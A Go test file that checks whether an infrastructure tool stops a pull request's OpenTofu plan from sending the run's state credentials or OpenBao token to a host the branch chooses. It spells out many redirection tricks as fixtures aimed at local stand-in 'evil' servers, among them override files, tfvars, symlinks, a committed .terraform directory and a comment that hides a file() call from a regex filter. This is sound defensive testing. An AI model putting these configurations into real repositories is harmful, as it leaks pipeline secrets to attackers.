package scenario

// A pull request's plan runs against the checkout's backend and state only: a
// branch cannot point the backend, a remote state or a key provider
// elsewhere, and so never hands the run's credentials to a host it names.

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/switchtender/switchtender/server/internal/testkit"
	"github.com/switchtender/switchtender/store"
)

// Promise (docs/pull-requests.md): a pull request's plan runs in a
// private tree, "the checkout's working tree, index and HEAD are never
// touched", against "a read-only copy" of a local state file. Once, a
// branch's local backend with a path in the checkout made the plan's state
// lock create that state file in the checkout, where it stayed.
func TestAPullRequestsBackendPathNeverWritesIntoTheCheckout(t *testing.T) {
	t.Parallel()
	h := prHarness(t)
	target := filepath.Join(h.project, "pwned", "by-pr.tfstate")
	h.git("checkout", "-q", "-b", "backend")
	be := fmt.Sprintf("terraform {\n  backend \"local\" {\n    path = %q\n  }\n}\n", target)
	os.WriteFile(filepath.Join(h.project, "infra/data/backend.tf"), []byte(be), 0o644)
	h.git("add", "-A")
	h.git("commit", "-q", "-m", "backend")
	h.git("checkout", "-q", "main")
	before := h.git("status", "--porcelain", "--ignored")
	v := h.launchWait("alice", "data", "--dry-run", "--ref", "backend")
	after := h.git("status", "--porcelain", "--ignored")
	t.Logf("%s: %s\n%s", v.Status, v.Message, h.mustSSH("bob", "log", v.ID))
	if _, err := os.Stat(target); err == nil || after != before {
		t.Fatalf("a pull request's plan wrote into the checkout (%s: %s):\nbefore %q\nafter  %q\n%s", v.Status, v.Message, before, after, h.mustSSH("bob", "log", v.ID))
	}
}

// The same from a pull request: the branch adds the encryption block; its
// plan is scanned, found clean, and `tofu init` in the private tree sends
// the run's token to the branch's host.
func TestAPullRequestNeverSendsTheRunTokenToItsOpenbaoKeyProvider(t *testing.T) {
	t.Parallel()
	addr, seen := baoListener(t)
	h := newHarness(t, `
credential "bao" {
  env = { BAO_TOKEN = "s.run-token-XYZZY" }
}
template "data" {
  project = "infra"
  command = "infra/data"
  credentials = ["bao"]
}
`)
	h.git("init", "-q", "-b", "main")
	h.git("add", "-A")
	h.git("commit", "-q", "-m", "main")
	h.git("checkout", "-q", "-b", "bao")
	os.WriteFile(filepath.Join(h.project, "infra/data/encryption.tf"), []byte(baoEncryption(addr)), 0o644)
	h.git("add", "-A")
	h.git("commit", "-q", "-m", "bao")
	h.git("checkout", "-q", "main")
	v := h.launchWait("alice", "data", "--dry-run", "--ref", "bao")
	if got := seen(); len(got) > 0 {
		t.Fatalf("a pull request's plan sent the run's token in %d requests to the branch's host (%s: %s; steps %v): %v",
			len(got), v.Status, v.Message, stepNames(v), got)
	}
}

// Promise (docs/pull-requests.md): a pull request's plan runs "against
// the state the checkout's runs use", and a plan that would send a write
// request is refused. Once, a branch that replaced the backend with an http
// one at a host it named got the run's TF_HTTP_* credentials, and a LOCK
// request, sent to that host, since the scan read no backend block.
func TestAPullRequestNeverSendsTheRunsCredentialsToItsHttpBackend(t *testing.T) {
	t.Parallel()
	var mu sync.Mutex
	var got []string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		u, p, _ := r.BasicAuth()
		mu.Lock()
		got = append(got, r.Method+" "+r.URL.Path+" auth="+u+":"+p)
		mu.Unlock()
		if r.Method == http.MethodGet {
			w.WriteHeader(http.StatusNoContent)
			return
		}
		w.WriteHeader(http.StatusOK)
	}))
	t.Cleanup(srv.Close)
	h := newHarness(t, `
credential "state" {
  env = { TF_HTTP_USERNAME = "switchtender", TF_HTTP_PASSWORD = "state-password-XYZZY" }
}
template "data" {
  project = "infra"
  command = "infra/data"
  credentials = ["state"]
}
`)
	h.git("init", "-q", "-b", "main")
	h.git("add", "-A")
	h.git("commit", "-q", "-m", "main")
	h.git("checkout", "-q", "-b", "httpbe")
	os.WriteFile(filepath.Join(h.project, "infra/data/backend.tf"), []byte(fmt.Sprintf(
		"terraform {\n  backend \"http\" {\n    address      = %q\n    lock_address = %q\n    unlock_address = %q\n  }\n}\n",
		srv.URL+"/state", srv.URL+"/lock", srv.URL+"/lock")), 0o644)
	h.git("add", "-A")
	h.git("commit", "-q", "-m", "http backend")
	h.git("checkout", "-q", "main")
	v := h.launchWait("alice", "data", "--dry-run", "--ref", "httpbe")
	mu.Lock()
	defer mu.Unlock()
	if len(got) > 0 {
		t.Fatalf("a pull request's plan sent the run's state credentials to the branch's host (%s: %s; steps %v): %v",
			v.Status, v.Message, stepNames(v), got)
	}
}

// Promise (docs/pull-requests.md; scan.Backend: the locals a backend
// block references are pinned by their definitions, so a branch that changes
// one is refused). Once, a local that an override file sorting before the
// primary file redefined was read and then forgotten, so the branch's backend
// text matched the checkout's while OpenTofu planned against the override's
// address with the run's state credentials.
func TestAPullRequestCannotRedirectTheBackendThroughAnOverrideLocal(t *testing.T) {
	t.Parallel()
	legit, _ := stateServer(t)
	evil, seen := stateServer(t)
	v := planBranch(t, map[string]string{
		"backend.tf": httpBackend("local.state_address"),
		"locals.tf":  "locals {\n  state_address = \"" + legit.URL + "/state\"\n}\n",
		"main.tf":    testkit.PlainResource,
	}, map[string]string{
		"a_override.tf": "locals {\n  state_address = \"" + evil.URL + "/state\"\n}\n",
	})
	if got := seen(); len(got) > 0 {
		t.Fatalf("a branch's override file redefined the local the backend takes, and the pull request's plan sent the run's state credentials to the branch's host (%s: %s; steps %v): %v",
			v.Status, v.Message, stepNames(v), got)
	}
	if v.Run.Status != store.StatusRefused {
		t.Fatalf("not refused: %s: %s", v.Status, v.Message)
	}
}

// Promise (scan.Backend: a JSON backend block that takes a template is taken
// to reference every variable and local, so their declarations and .tfvars
// values are pinned). Once, a JSON backend whose address read a variable
// through a %{ } directive rather than ${ } pinned nothing it referenced, so
// a branch adding a terraform.tfvars had its plan read another state with the
// run's credentials.
func TestAJSONBackendsTemplateDirectivePinsItsInputs(t *testing.T) {
	t.Parallel()
	srv, seen := stateServer(t)
	v := planBranch(t, map[string]string{
		"backend.tf.json": `{"terraform": {"backend": {"http": {"address": "` + srv.URL + `/%{ if var.env == \"prod\" }prod%{ else }dev%{ endif }"}}}}` + "\n",
		"variables.tf":    "variable \"env\" {\n  type    = string\n  default = \"dev\"\n}\n",
		"main.tf":         testkit.PlainResource,
	}, map[string]string{
		"terraform.tfvars": "env = \"prod\"\n",
	})
	for _, r := range seen() {
		if strings.Contains(r, "/prod") {
			t.Fatalf("a branch's terraform.tfvars changed the variable a JSON backend's template directive takes, and the pull request's plan read another state with the run's credentials (%s: %s; steps %v): %v",
				v.Status, v.Message, stepNames(v), seen())
		}
	}
	if v.Run.Status != store.StatusRefused {
		t.Fatalf("not refused: %s: %s (requests %v)", v.Status, v.Message, seen())
	}
}

// What a branch may change about a backend's inputs without touching the
// backend block's text is pinned, and each such change is refused before any
// tofu runs: a variable's default redefined in an override file, a .tofu file
// shadowing the .tf that declares it, a *.auto.tfvars link to a file in the
// tree, a terraform.tfvars.json, the variable read through an index, a for
// expression or a conditional, and an encryption key provider's address taken
// through a chain of locals.
func TestABranchCannotChangeTheBackendsInputs(t *testing.T) {
	t.Parallel()
	legit, _ := stateServer(t)
	evil, seen := stateServer(t)
	variable := func(name, def string) string {
		return "variable \"" + name + "\" {\n  type    = string\n  default = \"" + def + "\"\n}\n"
	}
	good, bad := legit.URL+"/state", evil.URL+"/state"
	cases := []struct {
		name         string
		main, branch map[string]string
	}{
		{"variable override file", map[string]string{
			"backend.tf": httpBackend("var.addr"), "vars.tf": variable("addr", good),
		}, map[string]string{"a_override.tf": variable("addr", bad)}},
		{"tofu shadow", map[string]string{
			"backend.tf": httpBackend("var.addr"), "vars.tf": variable("addr", good),
		}, map[string]string{"vars.tofu": variable("addr", bad)}},
		{"auto tfvars link", map[string]string{
			"backend.tf": httpBackend("var.addr"), "vars.tf": variable("addr", good),
		}, map[string]string{"vals/x.txt": "addr = \"" + bad + "\"\n", "x.auto.tfvars": "symlink:vals/x.txt"}},
		{"tfvars json", map[string]string{
			"backend.tf": httpBackend("var.addr"), "vars.tf": variable("addr", good),
		}, map[string]string{"terraform.tfvars.json": `{"addr": "` + bad + `"}`}},
		{"index", map[string]string{
			"backend.tf": httpBackend(`var.m["k"]`),
			"vars.tf":    "variable \"m\" {\n  type    = map(string)\n  default = { k = \"" + good + "\" }\n}\n",
		}, map[string]string{"terraform.tfvars": "m = { k = \"" + bad + "\" }\n"}},
		{"for expression", map[string]string{
			"backend.tf": httpBackend(`[for a in [var.addr] : a][0]`), "vars.tf": variable("addr", good),
		}, map[string]string{"terraform.tfvars": "addr = \"" + bad + "\"\n"}},
		{"conditional", map[string]string{
			"backend.tf": httpBackend(`var.alt != "" ? var.alt : "` + good + `"`), "vars.tf": variable("alt", ""),
		}, map[string]string{"z.auto.tfvars": "alt = \"" + bad + "\"\n"}},
		{"encryption key provider through locals", map[string]string{
			"backend.tf": httpBackend(`"` + good + `"`),
			"enc.tf": "terraform {\n  encryption {\n    key_provider \"openbao\" \"k\" {\n      address  = local.bao\n      key_name = \"k\"\n      token    = \"bao-token-13d\"\n    }\n" +
				"    method \"aes_gcm\" \"m\" {\n      keys = key_provider.openbao.k\n    }\n    state {\n      method = method.aes_gcm.m\n    }\n  }\n}\n",
			"locals.tf": "locals {\n  bao = local.scheme_host\n  scheme_host = var.bao\n}\n",
			"vars.tf":   variable("bao", legit.URL),
		}, map[string]string{"terraform.tfvars": "bao = \"" + evil.URL + "\"\n"}},
	}
	for _, c := range cases {
		t.Run(strings.ReplaceAll(c.name, " ", "_"), func(t *testing.T) {
			c.main["main.tf"] = testkit.PlainResource
			v := planBranch(t, c.main, c.branch)
			if got := seen(); len(got) > 0 {
				t.Fatalf("the branch's host got requests (%s: %s): %v", v.Status, v.Message, got)
			}
			if v.Run.Status != store.StatusRefused || !strings.Contains(v.Message, "backend") {
				t.Fatalf("not refused as another backend: %s: %s", v.Status, v.Message)
			}
		})
	}
}

// A pull request that leaves the backend's inputs alone plans, when the
// backend takes a variable: a branch that adds a resource, an unrelated
// variable, an unrelated local and an unrelated value to the terraform.tfvars
// that sets the backend's variable plans against the checkout's host.
func TestAPullRequestWithUnrelatedChangesPlans(t *testing.T) {
	t.Parallel()
	legit, seen := stateServer(t)
	v := planBranch(t, map[string]string{
		"backend.tf":       httpBackend("var.addr"),
		"vars.tf":          "variable \"addr\" {\n  type = string\n}\n\nvariable \"other\" {\n  type    = string\n  default = \"a\"\n}\n",
		"terraform.tfvars": "addr = \"" + legit.URL + "/state\"\n",
		"main.tf":          testkit.PlainResource,
	}, map[string]string{
		"vars.tf":          "variable \"addr\" {\n  type = string\n}\n\nvariable \"other\" {\n  type    = string\n  default = \"b\"\n}\n\nvariable \"more\" {\n  type    = string\n  default = \"c\"\n}\n",
		"terraform.tfvars": "addr = \"" + legit.URL + "/state\"\nmore = \"d\"\n",
		"extra.tf":         "locals {\n  unrelated = var.more\n}\n\nresource \"terraform_data\" \"y\" {\n  input = local.unrelated\n}\n",
	})
	if v.Run.Status != store.StatusSucceeded {
		t.Fatalf("a pull request that leaves the backend's inputs alone: %s: %s", v.Status, v.Message)
	}
	if len(seen()) == 0 {
		t.Fatal("the plan did not read the checkout's state")
	}
}

// A pull request that changes a resource of a module written in JSON, whose
// main.tf.json holds the backend too, plans.
// Once, a JSON module whose main.tf.json held the backend beside its
// resources had every pull request that touched a resource refused as
// changing the backend, because the whole file stood for the backend block.
func TestAJSONModulesResourceChangePlans(t *testing.T) {
	t.Parallel()
	legit, _ := stateServer(t)
	file := func(resources string) string {
		return `{"terraform": {"backend": {"http": {"address": "` + legit.URL + `/state"}}}, "resource": {"terraform_data": {` + resources + `}}}` + "\n"
	}
	v := planBranch(t, map[string]string{
		"main.tf.json": file(`"x": {"input": "x"}`),
	}, map[string]string{
		"main.tf.json": file(`"x": {"input": "x"}, "y": {"input": "y"}`),
	})
	if v.Run.Status != store.StatusSucceeded {
		t.Fatalf("a pull request that adds a resource to a JSON module, its backend untouched: %s: %s", v.Status, v.Message)
	}
}

// A pull request that adds a variable or local unrelated to a JSON backend's
// template plans.
// Once, a JSON backend with a template was taken to reference every variable
// and local, so a pull request adding any unrelated variable or local was
// refused.
func TestAJSONTemplateBackendPlansWithAnUnrelatedVariable(t *testing.T) {
	t.Parallel()
	legit, _ := stateServer(t)
	v := planBranch(t, map[string]string{
		"backend.tf.json": `{"terraform": {"backend": {"http": {"address": "${var.addr}"}}}}` + "\n",
		"vars.tf":         "variable \"addr\" {\n  type    = string\n  default = \"" + legit.URL + "/state\"\n}\n",
		"main.tf":         testkit.PlainResource,
	}, map[string]string{
		"more.tf": "variable \"size\" {\n  type    = number\n  default = 2\n}\n\nresource \"terraform_data\" \"y\" {\n  input = var.size\n}\n",
	})
	if v.Run.Status != store.StatusSucceeded {
		t.Fatalf("a pull request that adds an unrelated variable beside a JSON backend that takes var.addr: %s: %s", v.Status, v.Message)
	}
}

// Promise (scan.Backend: "a value read through a function that reads a file
// (file, templatefile, ...)" is refused, since no text could pin the file).
// Once, file/**/("addr.txt") in a backend escaped the regular expression that
// refused file-reading functions, so a branch changing only addr.txt sent the
// run's state credentials to the host it named.
func TestAFileFunctionBehindACommentIsRefusedInTheBackend(t *testing.T) {
	t.Parallel()
	legit, _ := stateServer(t)
	evil, seen := stateServer(t)
	v := planBranch(t, map[string]string{
		"backend.tf": httpBackend("local.state_address"),
		"locals.tf":  "locals {\n  state_address = trimspace(file/**/(\"${path.module}/addr.txt\"))\n}\n",
		"addr.txt":   legit.URL + "/state\n",
		"main.tf":    testkit.PlainResource,
	}, map[string]string{
		"addr.txt": evil.URL + "/state\n",
	})
	if got := seen(); len(got) > 0 {
		t.Fatalf("a file read behind a comment was not refused, and the branch's file sent the run's state credentials to its host (%s: %s): %v", v.Status, v.Message, got)
	}
	if v.Run.Status != store.StatusRefused {
		t.Fatalf("not refused: %s: %s", v.Status, v.Message)
	}
}

// A branch that commits an initialized .terraform whose saved backend
// (terraform.tfstate there) names another host under the hash of the
// unchanged backend block (OpenTofu's init and plan then use the saved
// configuration: checked by hand, it sends them there), and a
// .terraform/environment choosing another workspace, does not move the pull
// request's plan: dropUntrusted removes every .terraform, and the plan reads
// the checkout's host.
func TestACommittedSavedBackendDoesNotMoveThePlan(t *testing.T) {
	t.Parallel()
	legit, lseen := stateServer(t)
	evil, seen := stateServer(t)
	v := planBranchWith(t, map[string]string{
		"backend.tf": httpBackend(`"` + legit.URL + `/state"`),
		"main.tf":    testkit.PlainResource,
	}, func(h *harness, wd string) {
		runTofuByHand(t, h, "infra/pr13d", "init", "-input=false", "-no-color")
		p := filepath.Join(wd, ".terraform/terraform.tfstate")
		b, err := os.ReadFile(p)
		if err != nil || !strings.Contains(string(b), legit.URL) {
			t.Fatalf("init saved no backend: %v %s", err, b)
		}
		testkit.WriteFiles(t, wd, map[string]string{
			".terraform/terraform.tfstate": strings.ReplaceAll(string(b), legit.URL, evil.URL),
			".terraform/environment":       "evil",
			"extra.tf":                     "resource \"terraform_data\" \"y\" {\n  input = \"y\"\n}\n",
		})
	})
	if got := seen(); len(got) > 0 {
		t.Fatalf("a committed .terraform redirected the pull request's plan (%s: %s): %v", v.Status, v.Message, got)
	}
	if v.Run.Status != store.StatusSucceeded || len(lseen()) == 0 {
		t.Fatalf("the plan did not run against the checkout's host: %s: %s", v.Status, v.Message)
	}
}

// Promise (docs/pull-requests.md, server/pullrequest.go sameBackend: "a
// backend or key provider the branch chose would get the run's credentials",
// so a branch's plan runs only against the checkout's backend). Once, a
// branch that left the backend alone but added an http terraform_remote_state
// at an address of its choosing had its plan send the run's TF_HTTP_USERNAME
// and TF_HTTP_PASSWORD there.
func TestAPullRequestsRemoteStateNeverGetsTheStateCredentials(t *testing.T) {
	t.Parallel()
	legit, _ := stateServer(t)
	evil, seen := stateServer(t)
	v := planBranch(t, map[string]string{
		"backend.tf": httpBackend(`"` + legit.URL + `/state"`),
		"main.tf":    testkit.PlainResource,
	}, map[string]string{
		"peek.tf": testkit.HTTPRemoteState(evil.URL + "/other-state"),
	})
	for _, req := range seen() {
		if strings.Contains(req, "state-password-13d") {
			t.Fatalf("a branch's terraform_remote_state sent the run's state credentials to the branch's host (%s: %s; steps %v): %v",
				v.Status, v.Message, stepNames(v), seen())
		}
	}
	t.Logf("%s: %s; the branch's host saw %v", v.Status, v.Message, seen())
}

// baoListener records every request's method and X-Vault-Token.
func baoListener(t *testing.T) (addr string, seen func() []string) {
	var mu sync.Mutex
	var got []string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		got = append(got, r.Method+" "+r.URL.Path+" token="+r.Header.Get("X-Vault-Token"))
		mu.Unlock()
		w.WriteHeader(http.StatusInternalServerError)
	}))
	t.Cleanup(srv.Close)
	return srv.URL, func() []string { mu.Lock(); defer mu.Unlock(); return append([]string{}, got...) }
}

func baoEncryption(addr string) string {
	return fmt.Sprintf(`terraform {
  encryption {
    key_provider "openbao" "k" {
      address  = %q
      key_name = "k"
    }
    method "aes_gcm" "m" {
      keys = key_provider.openbao.k
    }
    state {
      method = method.aes_gcm.m
    }
  }
}
`, addr)
}
